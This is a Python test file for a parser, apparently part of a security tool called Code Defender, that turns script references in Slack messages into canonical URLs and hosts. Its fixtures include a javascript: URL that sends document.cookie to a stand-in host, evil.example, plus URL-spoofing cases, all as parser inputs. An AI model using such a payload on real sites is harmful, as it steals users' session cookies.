"""From what Code Defender says of a script to a URL, or to none."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from codedefender2th.incident.script import read_host, read_script
from codedefender2th.slack import text as slacktext

URLS = [
    # as written, url, host
    (
        "`www.somedomain.com/scripts/script.js`",
        "https://www.somedomain.com/scripts/script.js",
        "www.somedomain.com",
    ),
    (
        "<https://cdn.example.net/a.js|cdn.example.net/a.js>",
        "https://cdn.example.net/a.js",
        "cdn.example.net",
    ),
    ("<http://cdn.example.net/a.js|cdn.example.net/a.js>", "https://cdn.example.net/a.js", "cdn.example.net"),
    ("<http://cdn.example.net/a.js|the script>", "http://cdn.example.net/a.js", "cdn.example.net"),
    ("<http://cdn.example.net/a.js>", "http://cdn.example.net/a.js", "cdn.example.net"),
    ("*`<https://cdn.example.net/a.js>`*", "https://cdn.example.net/a.js", "cdn.example.net"),
    ("```https://cdn.example.net/a.js```", "https://cdn.example.net/a.js", "cdn.example.net"),
    ("//cdn.example.net/a.js", "https://cdn.example.net/a.js", "cdn.example.net"),
    ("cdn.example.net", "https://cdn.example.net", "cdn.example.net"),
    ("cdn.example.net:8443/a.js", "https://cdn.example.net:8443/a.js", "cdn.example.net"),
    ("localhost:3000/a.js", "https://localhost:3000/a.js", "localhost"),
    ("HTTPS://CDN.Example.NET:443/A.js?Q=1#frag", "https://cdn.example.net/A.js?Q=1", "cdn.example.net"),
    ("http://cdn.example.net:80/a.js", "http://cdn.example.net/a.js", "cdn.example.net"),
    ("https://cdn.example.net:80/a.js", "https://cdn.example.net:80/a.js", "cdn.example.net"),
    ("https://cdn.example.net./a.js", "https://cdn.example.net/a.js", "cdn.example.net"),
    (
        "https://user:p%40ss@cdn.example.net/a.js",
        "https://user:p%40ss@cdn.example.net/a.js",
        "cdn.example.net",
    ),
    ("https://münchen.example/ä.js", "https://xn--mnchen-3ya.example/ä.js", "xn--mnchen-3ya.example"),
    (
        "https://cdn.example.net/a%20b/%E2%82%AC.js",
        "https://cdn.example.net/a%20b/%E2%82%AC.js",
        "cdn.example.net",
    ),
    (
        "https://cdn.example.net/a.js?v=1&amp;amp;k=2",
        "https://cdn.example.net/a.js?v=1&amp;k=2",
        "cdn.example.net",
    ),
    ("https://203.0.113.9/a.js", "https://203.0.113.9/a.js", "203.0.113.9"),
    ("https://[2001:DB8::1]:8080/a.js", "https://[2001:db8::1]:8080/a.js", "2001:db8::1"),
    # what a browser makes of them (WHATWG URL Standard)
    ("https://good.example\\@evil.example/a.js", "https://good.example/@evil.example/a.js", "good.example"),
    ("https:\\\\cdn.example.net\\a.js", "https://cdn.example.net/a.js", "cdn.example.net"),
    ("https://%65vil.example/a.js", "https://evil.example/a.js", "evil.example"),
    ("https://cdn.example.net/a\tb.js", "https://cdn.example.net/ab.js", "cdn.example.net"),
    ("https://cdn.example.net/\u202egpj.js", "https://cdn.example.net/%E2%80%AEgpj.js", "cdn.example.net"),
]

WITHOUT_URL = [
    # as written, host
    ("`Anonymous`", None),
    ("`inline script`", None),
    ("/static/js/app.js", None),
    ("static/js/app.js", None),
    ("app.min.js?v=2", None),
    ("javascript:fetch('https://evil.example/'+document.cookie)", None),
    ("data:text/javascript,alert(1)", None),
    ("blob:https://example.com/1c0ffee", None),
    ("https://", None),
    ("https://exa mple.com/a.js", None),
    ("https://cdn.example.net:99999/a.js", None),
    ("script.com/lib/main.[UNIQUE_ID].js", "script.com"),
    ("https://cdn.example.net/[HASH]/a.js", "cdn.example.net"),
    ("wss://evil.example/socket", "evil.example"),
]


@pytest.mark.parametrize(("written", "url", "host"), URLS)
def test_a_script_with_a_host_has_a_canonical_url(written: str, url: str, host: str) -> None:
    script = read_script(slacktext.read(written))
    assert script is not None
    assert (script.url, script.host) == (url, host)


@pytest.mark.parametrize(("written", "host"), WITHOUT_URL)
def test_inline_and_grouped_scripts_have_no_url(written: str, host: str | None) -> None:
    script = read_script(slacktext.read(written))
    assert script is not None
    assert (script.url, script.host) == (None, host)


@pytest.mark.parametrize("written", ["", "   ", "``", "* *", "\u200e"])
def test_nothing_written_is_no_script(written: str) -> None:
    assert read_script(slacktext.read(written)) is None


def test_a_next_js_route_is_no_placeholder() -> None:
    script = read_script(slacktext.read("https://shop.example/_next/static/chunks/pages/[slug]-0a1b.js"))
    assert script is not None
    assert script.url == "https://shop.example/_next/static/chunks/pages/[slug]-0a1b.js"


@pytest.mark.parametrize(
    ("written", "host"),
    [
        ("<http://example.com|example.com>", "example.com"),
        ("<https://www.example.com/>", "www.example.com"),
        ("Example.COM.", "example.com"),
        ("example.com:8443", "example.com"),
        ("203.0.113.9", "203.0.113.9"),
        ("[2001:db8::1]", "2001:db8::1"),
        ("münchen.example", "xn--mnchen-3ya.example"),
        ("intranet", "intranet"),
        ("a, b", None),
        ("*.example.com", None),
        ("not a host", None),
    ],
)
def test_a_host_domain_is_canonical_or_none(written: str, host: str | None) -> None:
    assert read_host(slacktext.read(written)) == host


@given(st.text())
def test_reading_a_script_never_fails(text: str) -> None:
    script = read_script(slacktext.read(text))
    assert script is None or script.url is None or script.url.startswith(("http://", "https://"))


@given(
    st.from_regex(
        r"https?://[a-z]{1,8}\.example(:[0-9]{1,4})?/[a-z0-9/._~-]{0,20}(\?[a-z=&]{0,9})?", fullmatch=True
    )
)
def test_a_canonical_url_reads_as_itself(url: str) -> None:
    once = read_script(slacktext.read(url))
    assert once is not None
    assert once.url is not None
    again = read_script(slacktext.read(once.url))
    assert again is not None
    assert again.url == once.url


@pytest.mark.parametrize("port", ["1" * 5000, "99999", "0" * 9000 + "65536", "８０"])
def test_a_port_that_is_none_makes_no_address(port: str) -> None:
    assert _url_of(f"https://cdn.example.net:{port}/a.js") is None


def test_a_port_may_begin_with_zeros() -> None:
    assert _url_of("https://cdn.example.net:000000443/a.js") == "https://cdn.example.net/a.js"
    assert _url_of("https://cdn.example.net:0008443/a.js") == "https://cdn.example.net:8443/a.js"


@pytest.mark.parametrize(
    "text", [" " * 200_000 + "x", "https://a.example/" + " " * 200_000 + "x", "<" * 200_000]
)
def test_reading_takes_linear_time(text: str) -> None:
    started = time.process_time()
    read_script(slacktext.read(text))
    assert time.process_time() - started < 2


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ("https://a.example/1.js https://b.example/2.js", ("a.example", "b.example")),
        ("https://a.example/1.js, //b.example/2.js", ("a.example", "b.example")),
        ("https://a.example/1.js\nhttps://a.example/2.js", ("a.example",)),
        ("<https://a.example/1.js|one> <https://b.example/2.js|two>", ("a.example", "b.example")),
    ],
)
def test_two_addresses_are_none(text: str, hosts: tuple[str, ...]) -> None:
    script = read_script(slacktext.read(text))
    assert script is not None
    assert script.is_ambiguous
    assert (script.url, script.host, script.hosts) == (None, None, hosts)


@pytest.mark.parametrize(
    "text",
    [
        "https://a.example/1.js https://a.example/1.js",
        "https://a.example/a file.js",
        "https://a.example/?next=https://b.example/2.js",
        "<https://a.example/1.js|a.example/1.js>",
    ],
)
def test_one_address_is_one(text: str) -> None:
    script = read_script(slacktext.read(text))
    assert script is not None
    assert not script.is_ambiguous
    assert script.host == "a.example"


def _url_of(text: str) -> str | None:
    script = read_script(slacktext.read(text))
    return script.url if script else None
